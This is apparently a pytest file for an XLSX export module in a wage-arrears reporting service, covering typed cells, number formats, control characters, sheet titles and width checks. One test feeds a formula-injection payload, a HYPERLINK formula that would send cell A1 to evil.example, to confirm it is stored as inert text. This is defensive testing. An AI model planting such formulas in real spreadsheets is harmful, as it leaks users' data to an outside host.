"""XLSX tables: cells read back with openpyxl as typed values; a name that looks like a
formula stays text."""

from __future__ import annotations

import io
import zipfile
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from service.reports.xlsx import Sheet, table_to_xlsx, workbook_to_xlsx

HEADINGS = ("用人单位", "统一社会信用代码", "欠薪金额（元）", "发现日期", "风险等级")


def _read(document: bytes, sheet: int = 0) -> list[tuple[object, ...]]:
    workbook = load_workbook(io.BytesIO(document))
    return list(workbook.worksheets[sheet].iter_rows(values_only=True))


def test_headings_and_rows_read_back_as_typed_cells() -> None:
    rows = [
        ("温州鞋业有限公司", "91330300MA2AB0001X", Decimal("12345.67"), date(2026, 3, 1), "红"),
        ("瑞安服装厂", "91330381MA2AB0002Y", 0, date(2026, 4, 30), "绿"),
    ]

    document = table_to_xlsx(HEADINGS, rows, title="用人单位", number_formats={2: "#,##0.00"})

    assert _read(document) == [
        HEADINGS,
        ("温州鞋业有限公司", "91330300MA2AB0001X", 12345.67, datetime(2026, 3, 1), "红"),
        ("瑞安服装厂", "91330381MA2AB0002Y", 0, datetime(2026, 4, 30), "绿"),
    ]
    sheet = load_workbook(io.BytesIO(document))["用人单位"]
    assert sheet.freeze_panes == "A2"
    assert sheet["A1"].font.bold
    assert sheet["C2"].number_format == "#,##0.00"
    assert sheet["D2"].number_format == "yyyy-mm-dd"


def test_a_name_that_looks_like_a_formula_stays_text() -> None:
    attack = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
    rows = [(attack, "+86 577", "-12.50", "@SUM(A1)", "正常")]

    document = table_to_xlsx(HEADINGS, rows)

    assert _read(document)[1] == (attack, "+86 577", "-12.50", "@SUM(A1)", "正常")
    cells = load_workbook(io.BytesIO(document)).active[2]
    assert [cell.data_type for cell in cells] == ["s"] * 5
    assert [cell.quotePrefix for cell in cells] == [True, True, False, True, False]
    with zipfile.ZipFile(io.BytesIO(document)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml


def test_control_characters_are_dropped_and_aware_times_are_written_as_utc() -> None:
    aware = datetime(2026, 11, 28, 9, 30, tzinfo=UTC)

    document = table_to_xlsx(("名称", "时间"), [("鹿城\x07区", aware)])

    assert _read(document)[1] == ("鹿城区", datetime(2026, 11, 28, 9, 30))


def test_several_sheets_keep_their_order_and_excel_safe_titles() -> None:
    document = workbook_to_xlsx(
        [
            Sheet("得分/排名", ("县区", "得分"), [("鹿城区", 92.5)]),
            Sheet("证据", ("县区", "指标", "数值"), [("鹿城区", "保证金覆盖率", 0.98)]),
        ]
    )

    workbook = load_workbook(io.BytesIO(document))
    assert workbook.sheetnames == ["得分_排名", "证据"]
    assert _read(document, sheet=1)[1] == ("鹿城区", "保证金覆盖率", 0.98)


def test_a_row_of_the_wrong_width_is_refused() -> None:
    with pytest.raises(ValueError, match="2 values, the headings 5"):
        table_to_xlsx(HEADINGS, [("甲", "乙")])
